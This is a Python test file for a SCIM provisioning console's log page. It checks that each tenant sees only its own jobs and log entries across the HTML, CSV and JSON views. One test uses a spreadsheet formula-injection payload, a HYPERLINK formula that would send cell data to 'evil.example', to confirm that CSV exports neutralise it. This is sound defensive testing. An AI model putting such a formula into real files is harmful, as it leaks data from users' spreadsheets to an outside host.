"""The Provisioning page shows the engine's jobs and log for the tenant they write into only."""

from __future__ import annotations

import asyncio
import csv
import io
import json
from pathlib import Path
from typing import Any

import httpx
import pytest

from scimhub.engine.config import load_jobs
from scimhub.engine.cycle.cycle import Cycle
from scimhub.engine.identity import JobTargetChanged
from scimhub.engine.sample import sample_directory
from scimhub.engine.sources.file import load_file
from scimhub.engine.target.client import ScimTarget
from scimhub.store.provisioning import EngineState
from scimhub.web import create_app
from tests.console.conftest import Site, sign_in

JOB = """[job]
name = "hr-to-acme"
[source]
type = "file"
path = "directory.json"
[target]
url = "http://testserver/scim/v2"
token = "{token}"
[scope]
mode = "all"
"""


def run_engine(site: Site, tmp_path: Path, tenant: str = "acme",
               directory: dict[str, Any] | None = None, name: str = "hr-to-acme") -> None:
    (tmp_path / "directory.json").write_text(json.dumps(
        directory or sample_directory(users=12, groups=2, members=3)))
    (tmp_path / "job.toml").write_text(JOB.format(token=site.tokens[tenant])
                                       .replace('"hr-to-acme"', f'"{name}"'))
    [job] = load_jobs(tmp_path / "job.toml")

    async def cycle() -> None:
        transport = httpx.ASGITransport(app=create_app(site.ctx))
        async with ScimTarget(job.target.url, job.target.token, transport=transport) as target:
            await Cycle(job, EngineState(site.ctx.db), target,
                        load_file(job.source.path)).run()

    asyncio.run(cycle())


def test_jobs_and_log_of_the_tenant_they_provision(site: Site, tmp_path: Path) -> None:
    run_engine(site, tmp_path)
    acme = site.client()
    sign_in(acme, "acme")
    page = acme.get("/provisioning")
    assert page.status_code == 200
    assert "hr-to-acme" in page.text and "initial" in page.text
    assert 'id="provisioning-log"' in page.text and "create" in page.text
    failures = acme.get("/provisioning", params={"status": "failure"})
    assert "No log entries match." in failures.text
    exported = acme.get("/provisioning", params={"format": "csv", "action": "create"})
    rows = exported.text.strip().splitlines()
    assert rows[0].startswith("at,job,cycle_id") and len(rows) == 1 + 12 + 2
    as_json = acme.get("/provisioning", params={"format": "json", "search": "Team 000"}).json()
    assert {e["identity"] for e in as_json} == {"Team 000"}

    globex = site.client()
    sign_in(globex, "globex")
    other = globex.get("/provisioning")
    assert "hr-to-acme" not in other.text and "No provisioning jobs" in other.text
    assert globex.get("/provisioning", params={"format": "json"}).json() == []


def one_user(upn: str) -> dict[str, Any]:
    return {"users": [{"objectId": "only", "userPrincipalName": upn, "mail": upn,
                       "givenName": "Only", "surname": "One", "accountEnabled": True}],
            "groups": []}


def test_each_tenant_sees_only_what_its_tokens_wrote_whatever_the_job_is_called(
        site: Site, tmp_path: Path) -> None:
    """One job name that wrote into acme, then (restarted) into globex: each tenant's page,
    JSON and CSV show that tenant's entries and cycles only. If the log query lost its
    filter on the cycles' token digests, globex would see acme's people here."""
    run_engine(site, tmp_path)
    with_globex = tmp_path / "globex"
    with_globex.mkdir()
    with pytest.raises(JobTargetChanged, match="another tenant"):
        run_engine(site, with_globex, "globex", one_user("only@globex.example"))
    state = EngineState(site.ctx.db)
    job = state.job("hr-to-acme")
    assert job is not None
    state.reset(job.id)  # scimhub job reset: the same job may now provision elsewhere
    run_engine(site, with_globex, "globex", one_user("only@globex.example"))

    acme, globex = site.client(), site.client()
    sign_in(acme, "acme")
    sign_in(globex, "globex")
    acme_log = acme.get("/provisioning", params={"format": "json"}).json()
    globex_log = globex.get("/provisioning", params={"format": "json"}).json()
    assert len([e for e in acme_log if e["action"] == "create"]) == 12 + 2
    assert "only@globex.example" not in {e["identity"] for e in acme_log}
    assert {e["identity"] for e in globex_log} == {"only@globex.example"}
    assert {e["job"] for e in globex_log} == {"hr-to-acme"}
    globex_csv = globex.get("/provisioning", params={"format": "csv"}).text
    assert len(globex_csv.strip().splitlines()) == 2 and "globex" in globex_csv
    globex_page = globex.get("/provisioning").text
    assert "Team 000" not in globex_page and "only@globex.example" in globex_page
    acme_page = acme.get("/provisioning").text
    assert "only@globex.example" not in acme_page
    assert "1 create; 0 failures" in globex_page, "globex's cycle, not acme's"
    assert "1 create; 0 failures" not in acme_page


def test_exported_cells_that_a_spreadsheet_would_run_are_neutralised(
        site: Site, tmp_path: Path) -> None:
    formula = '=HYPERLINK("https://evil.example/?"&A1,"open")'
    run_engine(site, tmp_path, directory=one_user(formula))
    acme = site.client()
    sign_in(acme, "acme")
    rows = list(csv.reader(io.StringIO(
        acme.get("/provisioning", params={"format": "csv"}).text)))
    identities = [row[rows[0].index("identity")] for row in rows[1:]]
    assert identities == ["'" + formula]
    as_json = acme.get("/provisioning", params={"format": "json"}).json()
    assert [e["identity"] for e in as_json] == [formula], "JSON keeps the value as it is"


def test_the_job_filter_narrows_the_tenants_own_log(site: Site, tmp_path: Path) -> None:
    run_engine(site, tmp_path)
    second = tmp_path / "second"
    second.mkdir()
    run_engine(site, second, directory=one_user("second@acme.example"), name="second-job")
    acme = site.client()
    sign_in(acme, "acme")
    everything = acme.get("/provisioning", params={"format": "json"}).json()
    assert {e["job"] for e in everything} == {"hr-to-acme", "second-job"}
    only = acme.get("/provisioning", params={"format": "json", "job": "second-job"}).json()
    assert [(e["job"], e["identity"]) for e in only] == [("second-job", "second@acme.example")]
    globex = site.client()
    sign_in(globex, "globex")
    assert globex.get("/provisioning", params={"format": "json", "job": "second-job"}
                      ).json() == []
